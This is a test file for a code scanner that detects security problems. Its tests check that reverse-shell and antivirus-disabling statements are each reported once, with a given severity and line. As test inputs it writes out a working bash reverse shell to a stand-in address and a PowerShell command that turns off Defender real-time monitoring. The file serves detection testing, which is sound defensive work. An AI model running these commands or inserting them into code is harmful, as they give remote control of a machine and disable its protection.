// One statement is told once by one rule, however many ways of looking at it find it.
import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../support/inspect.ts';

async function told(text: string, path = 'a.py'): Promise<string[]> {
  const { findings } = await inspectBytes(Buffer.from(text), path);
  return findings.map(({ rule, severity, location }) => `${severity} ${rule} ${location.line}`);
}

const SHELL = 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1';
const GUARD = 'Set-MpPreference -DisableRealtimeMonitoring $true';

describe('one cause', () => {
  it('is told once: the text, the call and the program that the text is', async () => {
    expect(await told(`import os\nos.system("${SHELL}")\n`)).toEqual(['CRITICAL CODE-REVERSE-SHELL 2']);
    expect(await told(`import subprocess\nsubprocess.run(["powershell", "-Command", "${GUARD}"])\n`)).toEqual(
      ['HIGH CODE-SECURITY-OFF 2'],
    );
  });

  it('is told once where a shell starts another', async () => {
    expect(await told(`#!/bin/bash\nbash -c '${SHELL}'\n`, 'a.sh')).toEqual([
      'CRITICAL CODE-REVERSE-SHELL 2',
    ]);
  });

  it('is another one in another statement', async () => {
    expect(await told(`import os\nos.system("${SHELL}")\nprint()\nos.system("${SHELL}")\n`)).toEqual([
      'CRITICAL CODE-REVERSE-SHELL 2',
      'CRITICAL CODE-REVERSE-SHELL 4',
    ]);
  });

  it('keeps what it stands for, so that a second command in the statement is new', async () => {
    const subject = async (command: string): Promise<string | undefined> =>
      (await inspectBytes(Buffer.from(`import os\nos.system("${command}")\n`), 'a.py')).findings[0]?.subject;
    expect(await subject(SHELL)).not.toBe(await subject(`${SHELL}; ${SHELL.replace('4444', '5555')}`));
  });
});
